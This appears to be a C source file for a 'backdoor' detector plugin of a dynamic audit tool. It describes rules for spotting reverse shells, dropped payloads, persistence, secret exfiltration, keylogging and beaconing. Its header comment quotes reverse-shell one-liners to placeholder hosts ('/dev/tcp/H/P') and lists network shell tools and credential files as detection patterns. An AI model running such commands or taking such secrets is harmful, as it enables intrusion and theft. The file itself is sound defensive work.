/*
 * backdoor.c — detector "backdoor" (category "Backdoor Indicators").
 *
 * Single events rarely prove a backdoor; sequences do.  This detector keeps a
 * little bounded state per process (its sockets, what sits on its stdio,
 * whether it read a secret, which files the run dropped) and follows
 * fork/exec so a pattern split over parent and child is still seen.
 * Attempts count: a failed exec or connect is reported with its errno.
 *
 * Rules (id, severity, trigger; what is deliberately ignored):
 *   backdoor.reverse_shell   critical  exec of a shell or interpreter (sh,
 *        bash, dash, zsh, ksh, python*, perl, ruby, php, lua, node, nc,
 *        ncat, socat ...) whose stdin or stdout is a network socket, or
 *        (when the exec carries no stdio description) after the process
 *        dup'ed a connected socket onto fd 0/1/2, or after it connected out
 *        itself, or whose parent holds such a socket on its own stdio or
 *        connected and opened /dev/ptmx (pty.spawn relays the shell's
 *        terminal).  Also an exec of any program whose stdin or stdout is
 *        an inet stream socket the process or an ancestor connected out
 *        itself (`exec 5<>/dev/tcp/H/P; id >&5`), one finding per
 *        destination.  Ignored: unix-domain sockets on stdio (log daemons);
 *        for non-shells, accepted connections (an inetd-style server handing
 *        a client to a handler) and destinations in allow_connect.
 *        Also, attempted or not: a POSIX shell (sh, bash, dash, zsh, ksh ...)
 *        connecting an inet socket itself, which only its /dev/tcp and
 *        /dev/udp redirections do (`bash -i >& /dev/tcp/H/P 0>&1`); the
 *        message says whether the peer answered.
 *        high: a reverse shell whose peer did not answer: an interactive
 *        shell (no -c string, no script) whose stdin or stdout is any
 *        socket (a socketpair, a unix or loopback socket the program fell
 *        back to), run by a process that (or whose parent before the fork)
 *        tried an inet peer outside allow_connect and not on loopback.
 *   backdoor.bind_shell      critical  the same with an accepted connection.
 *   backdoor.dropped_payload critical  exec or PROT_EXEC mapping of a file
 *        the run wrote outside the workdir or under a hidden name, also when
 *        it is the script of an interpreter (the first non-option argument
 *        of python, perl, ruby, php, lua, node, sh, bash, dash ...; not with
 *        -c/-e/-m) or the program argument of the dynamic loader
 *        (ld-linux-x86-64.so.2 FILE); high: an interpreter reading source
 *        code it dropped there (an import from /tmp), or any runtime reading
 *        back compiled code (.class, .jar) it dropped in a temp directory (a
 *        JVM's URLClassLoader); exec of a memfd or /proc/PID/fd/N
 *        (fileless); PROT_EXEC mapping of a memfd; anonymous memory made
 *        executable holding bytes received on a socket or read back from a
 *        temp file (the tracer compares them: a stager, not a JIT).
 *        high: exec of a program under /tmp, /var/tmp or /dev/shm whose
 *        writing was not seen (directly or through the loader); the loader
 *        running a workdir file, or a PROT_EXEC mapping of a workdir *.so,
 *        that an interpreter (not a compiler or linker, not target.setup)
 *        wrote during the run.  Ignored: libffi's trampoline files
 *        ("memfd:libffi", /tmp/ffiXXXXXX), native libraries JVM packages
 *        unpack and load (sqlite-jdbc, JNA, Netty ...), files written by
 *        target.setup (a build, pip install --user), files written in the
 *        workdir under ordinary names (a.out, build outputs) except as
 *        said above, pip's *-packages/ unpacking, an interpreter
 *        re-executing itself after a connect, PATH-search misses (ENOENT).
 *   backdoor.persistence     high  running crontab (not -l/-r), at, batch
 *        or `systemctl enable|link`: persistence that no file write of the
 *        target shows.  A write to a persistence place (rc files, cron,
 *        systemd units, git hooks, *.pth, ~/.npmrc ...) is file.persistence's
 *        finding, not this one (one owner per finding; both read the same
 *        list, libdynaudit-sdk's da_path_persistence).
 *   backdoor.exfiltration    critical  a secret (shadow, ssh keys, cloud and
 *        tool credentials, shell/SQL/Python histories, gh/hub/rclone/
 *        terraform/maven/gradle/cargo/s3cmd/boto tokens, wallets, WireGuard
 *        and NetworkManager keys, /dev/mem, /proc/kcore ...: the sensitive
 *        list file.sensitive_read uses, libdynaudit-sdk's da_path_sensitive,
 *        with ~/X below any directory) read successfully, then a connect or send on
 *        an inet socket by the same process, a descendant or an ancestor up
 *        to three levels (a child may read for its parent); or a secret read
 *        while the process holds a connection it opened earlier (the bytes
 *        may then leave by write(), which live runs do not stop on).
 *        Another process's /proc/PID/environ or mem is a secret.
 *        /etc/passwd, /etc/group and the reader's own environ count only
 *        when the send goes to a non-loopback address outside allow_connect
 *        (libc and runtimes read them for user names).
 *   backdoor.honeytoken      critical  a decoy credential this audit
 *        planted (sandbox.deception.honeytokens) leaves the process: its
 *        value in a child's argv, a captured send payload or a DNS name
 *        (honeytoken.c), once per token and destination.
 *   backdoor.writable_library high  PROT_EXEC mapping of a file under /tmp,
 *        /var/tmp, /dev/shm or HOME (outside the workdir; HOME live only: a
 *        replayed log's HOME is the user's own, with their anaconda or
 *        pyenv) not written by the run (those are dropped_payload).
 *        LD_PRELOAD is not visible: skipped.
 *   backdoor.keylogging      high  an open, succeeded or not, of a keyboard or
 *        input device (/dev/input/eventN, /dev/input/by-path/...-kbd,
 *        /dev/uinput, /dev/hidrawN) or a console's screen (/dev/vcsN);
 *        medium: other /dev/input nodes, /dev/console, /dev/ttyN
 *        (keylog.c).  Terminal ioctls, denied or not: TIOCSTI (keystroke
 *        injection), TIOCLINUX selection/paste, KDSKBMODE raw: high;
 *        other TIOCLINUX and KDSKBMODE, TIOCCONS: medium; KDGKBMODE: low;
 *        raw mode or echo off (TCSETS*) on a console: high, on another
 *        terminal: medium, never on the process's own terminal (its stdio
 *        as given, /dev/tty, a pty it created).
 *   backdoor.beaconing       high  >= 3 contacts with the same destination
 *        spread over >= 2 s at roughly regular intervals (coefficient of
 *        variation of the gaps <= 0.5); medium when the destination is
 *        loopback.  A contact is a connect attempt, a send naming its
 *        destination on an unconnected socket (a UDP sendto beacon), or a
 *        datagram on a connected inet socket (connect() + write()); a send
 *        less than 0.5 s after the previous contact with the same
 *        destination belongs to the same burst and is not counted (a
 *        datagram stream is not a series).  Ignored: destinations in
 *        allow_connect, loopback ports the run itself listens on or bound
 *        (a client polling its own server, a UDP server answering the run's
 *        own client), DNS (port 53), unix sockets, sends on connected sockets.
 *
 * Summary: "None observed" / "No dynamic links, sockets, or file drops" when
 * silent, else the worst finding's label ("Reverse shell (+2 more)") and
 * message.
 *
 * Options: allow_connect: list of "host:port" patterns (shell globs; "host"
 * alone matches any port, "*:port" any host, "localhost" any loopback
 * address, ::ffff:a.b.c.d is a.b.c.d), parsed and matched by
 * libdynaudit-sdk (dynaudit/endpoint.h) like the network detector's.
 * Other keys are rejected.
 */
#include "backdoor.h"

/* ---- lifecycle ------------------------------------------------------------ */

static int backdoor_init(const struct da_host *host, const struct da_cfg *cfg, void **state,
			 char *err, size_t errlen)
{
	/* unknown keys and wrong types: refused by the core before init
	 * (backdoor_options below) */
	const char *const *items = NULL;
	size_t n = host->cfg_list(host, cfg, "allow_connect", &items);
	if (n == 0 && host->cfg_child(host, cfg, "allow_connect")) {
		snprintf(err, errlen, "%s: allow_connect: expected a list of \"host:port\" patterns",
			 host->cfg_where(host, cfg, "allow_connect"));
		return -EINVAL;
	}
	struct backdoor *st = calloc(1, sizeof(*st));
	if (!st || !(st->allow = da_endpoint_list_new())) {
		free(st);
		snprintf(err, errlen, "backdoor: out of memory");
		return -ENOMEM;
	}
	*state = st; /* destroy frees it, also after a refused entry */
	st->host = host;
	if (!(st->honey = bd_honey_new())) {
		snprintf(err, errlen, "backdoor: out of memory");
		return -ENOMEM;
	}
	for (size_t i = 0; i < n; i++) {
		char why[512];
		int rc = da_endpoint_list_add(st->allow, items[i], DA_ENDPOINT_HOST_ALONE | DA_ENDPOINT_UNIX,
					      why, sizeof(why));
		if (rc) {
			snprintf(err, errlen, "%s: allow_connect: %s",
				 host->cfg_where(host, cfg, "allow_connect"), why);
			return rc;
		}
	}
	st->workdir = host->run->workdir ? host->run->workdir : "";
	st->workdir_len = strlen(st->workdir);
	st->home = host->run->home ? host->run->home : "";
	st->home_len = strlen(st->home);
	while (st->workdir_len > 1 && st->workdir[st->workdir_len - 1] == '/')
		st->workdir_len--;
	while (st->home_len > 1 && st->home[st->home_len - 1] == '/')
		st->home_len--;
	*state = st;
	return 0;
}

/* backdoor.honeytoken: a planted decoy value leaving (see the header). */
static void check_honeytoken(struct backdoor *st, const struct da_event *ev)
{
	char msg[512];
	if (!bd_honey_check(st->honey, ev, msg, sizeof(msg)))
		return;
	char sent[320] = "";
	if (ev->kind == DA_EV_NET_SEND && ev->detail)
		snprintf(sent, sizeof(sent), "data sent: %.280s%s", ev->detail,
			 strlen(ev->detail) > 280 ? "..." : "");
	const char *evidence[2] = {ev->text ? ev->text : ev->detail, sent[0] ? sent : NULL};
	emit(st, "backdoor.honeytoken", DA_SEV_CRITICAL, "Credential exfiltration", ev->pid,
	     ev->time_s, evidence, 2,
	     "Find the code that collects credentials and sends them out; the value was a decoy, but a real "
	     "key in its place would have left.",
	     "%s", msg);
}

static int backdoor_on_event(void *state, const struct da_event *ev, char *err, size_t errlen)
{
	struct backdoor *st = state;
	if (ev->kind == DA_EV_SYSCALL_OTHER && bd_honey_learn(st->honey, ev))
		return 0;
	check_honeytoken(st, ev);
	check_input_capture(st, ev);
	switch (ev->kind) {
	case DA_EV_PROC_EXEC: on_exec(st, ev); break;
	case DA_EV_PROC_FORK: on_fork(st, ev); break;
	case DA_EV_PROC_EXIT: {
		struct proc *p = proc_find(st, ev->pid);
		if (p)
			proc_clear(p);
		break;
	}
	case DA_EV_FILE_OPEN: on_write_like(st, ev); break;
	case DA_EV_FILE_WRITE:
	case DA_EV_FILE_RENAME:
	case DA_EV_FILE_LINK: on_write_like(st, ev); break;
	case DA_EV_FILE_MMAP_EXEC: on_mmap_exec(st, ev); break;
	case DA_EV_FILE_MEMFD: on_memfd(st, ev); break;
	case DA_EV_NET_CONNECT:
	case DA_EV_NET_ACCEPT:
	case DA_EV_NET_SEND:
	case DA_EV_NET_BIND:
	case DA_EV_NET_LISTEN: on_net(st, ev); break;
	case DA_EV_FILE_CHDIR: on_chdir(st, ev); break;
	case DA_EV_SYSCALL_OTHER: on_other(st, ev); break;
	default: break;
	}
	return 0;
}

static int backdoor_finish(void *state, char *err, size_t errlen)
{
	struct backdoor *st = state;
	const struct da_host *host = st->host;
	report_beacons(st);
	report_shell_connects(st);
	if (st->procs_dropped || st->drops_dropped || st->dests_dropped || st->works_dropped)
		host->log(host, 1,
			  "backdoor: state full, not tracked: %zu processes, %zu files, %zu destinations, %zu workdir files",
			  st->procs_dropped, st->drops_dropped, st->dests_dropped, st->works_dropped);
	if (st->n_findings == 0) {
		host->set_summary(host, "None observed", "No dynamic links, sockets, or file drops");
		return 0;
	}
	char obs[96];
	if (st->n_findings == 1)
		snprintf(obs, sizeof(obs), "%s", st->worst_label);
	else
		snprintf(obs, sizeof(obs), "%s (+%zu more)", st->worst_label, st->n_findings - 1);
	host->set_summary(host, obs, st->worst_message);
	return 0;
}

static void backdoor_destroy(void *state)
{
	struct backdoor *st = state;
	if (!st)
		return;
	/* only slots in use: clearing all would touch (fault in) the whole
	 * 2.7 MB table at the end of every audit */
	for (size_t i = 0; i < st->procs_used; i++)
		proc_clear(&st->procs[i]);
	for (size_t i = 0; i < st->n_shell_connects; i++)
		free(st->shell_connects[i].text);
	for (size_t i = 0; i < st->n_drops; i++) {
		free(st->drops[i].path);
		free(st->drops[i].text);
	}
	for (size_t i = 0; i < st->n_works; i++) {
		free(st->works[i].path);
		free(st->works[i].text);
	}
	for (size_t i = 0; i < st->n_dests; i++)
		free(st->dests[i].first_text);
	da_endpoint_list_free(st->allow);
	bd_honey_free(st->honey);
	keylog_free(st->keylog);
	free(st);
}

/* Every rule this detector emits (ABI 1.2): the core refuses others and
 * checks `rules:` overrides against this list; `dynaudit plugins -v` shows it. */
static const struct da_rule_decl backdoor_rules[] = {
	{"backdoor.reverse_shell", DA_SEV_CRITICAL,
	 "a shell or interpreter whose stdio is a socket it connected, or a shell connecting out"},
	{"backdoor.bind_shell", DA_SEV_CRITICAL,
	 "a shell or interpreter whose stdio is an accepted connection"},
	{"backdoor.dropped_payload", DA_SEV_CRITICAL,
	 "a file the run wrote, then executed, mapped executable, loaded as code or run as a script; received or dropped bytes made executable"},
	{"backdoor.persistence", DA_SEV_HIGH,
	 "crontab, at, batch or systemctl enable: persistence no file write shows"},
	{"backdoor.exfiltration", DA_SEV_CRITICAL,
	 "a secret read, then a connect or send by the same process family"},
	{"backdoor.honeytoken", DA_SEV_CRITICAL,
	 "a decoy credential planted by this audit leaving the process"},
	{"backdoor.writable_library", DA_SEV_HIGH,
	 "executable mapping of a library in a writable place the run did not write"},
	{"backdoor.keylogging", DA_SEV_HIGH,
	 "an open of a keyboard, input device, console or console screen, keystroke injection (TIOCSTI), console capture ioctls, raw mode on a terminal not its own (failed or not)"},
	{"backdoor.beaconing", DA_SEV_HIGH,
	 "regular repeated contacts with one destination"},
	{0},
};

/* Its config keys (ABI 1.2): the core checks them before init(). */
static const struct da_option_decl backdoor_options[] = {
	{"allow_connect", DA_OPT_LIST,
	 "host:port patterns a shell or a send may reach (default: none)"},
	{0},
};

static const struct da_plugin backdoor_plugin = {
	DA_PLUGIN_HEADER,
	.name = "backdoor",
	.version = "1.0.0",
	.description = "reverse/bind shells, dropped payloads, persistence, exfiltration, beaconing",
	.category_id = "backdoor",
	.category_title = "Backdoor Indicators",
	.kinds = DA_KINDS(DA_EV_PROC_EXEC, DA_EV_PROC_FORK, DA_EV_PROC_EXIT, DA_EV_FILE_OPEN,
			DA_EV_FILE_RENAME, DA_EV_FILE_LINK, DA_EV_FILE_MMAP_EXEC, DA_EV_FILE_WRITE,
			DA_EV_FILE_MEMFD, DA_EV_NET_CONNECT, DA_EV_NET_ACCEPT, DA_EV_NET_SEND, DA_EV_NET_LISTEN,
			DA_EV_NET_BIND, DA_EV_FILE_CHDIR, DA_EV_SYSCALL_OTHER),
	.rules = backdoor_rules,
	.options = backdoor_options,
	.init = backdoor_init,
	.on_event = backdoor_on_event,
	.finish = backdoor_finish,
	.destroy = backdoor_destroy,
};

DYNAUDIT_PLUGIN(backdoor_plugin)
